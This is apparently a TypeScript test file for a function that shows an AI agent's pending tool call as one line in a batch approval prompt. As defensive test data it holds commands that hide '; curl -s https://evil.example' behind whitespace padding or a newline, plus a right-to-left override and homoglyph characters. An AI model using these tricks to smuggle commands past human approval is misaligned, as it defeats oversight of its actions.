import assert from 'node:assert/strict';
import { test } from 'node:test';
import { wholeLine } from './whole-line.ts';
import type { WireApproval, WireJson } from './wire.ts';

function line(name: string, args: { readonly [name: string]: WireJson }): string | null {
  return wholeLine({ shown: { action: { tool: { name }, args } } } as unknown as Pick<WireApproval, 'shown'>);
}

test('a batch shows all of what it would run', () => {
  assert.equal(line('Bash', { command: 'npm test' }), 'Bash: npm test');
  assert.equal(
    line('mcp__notes__send', { query: 'list my notes', to: 'x@y.example' }),
    'mcp__notes__send: {"query":"list my notes","to":"x@y.example"}',
  );
});

test('what cannot be shown whole in one line is in no batch', () => {
  assert.equal(wholeLine({ shown: null }), null);
  for (const command of [
    `npm test${' '.repeat(80)}; curl -s https://evil.example`,
    `npm test ${'x'.repeat(240)}; curl -s https://evil.example`,
    'npm test\ncurl -s https://evil.example',
    'npm test \u202e; lruc',
    'n\u0440m test',
  ])
    assert.equal(line('Bash', { command }), null, command);
  assert.equal(line('Ba\u0455h', { command: 'npm test' }), null);
  assert.equal(line('send', { list: ['ls', '…'] }), null);
});
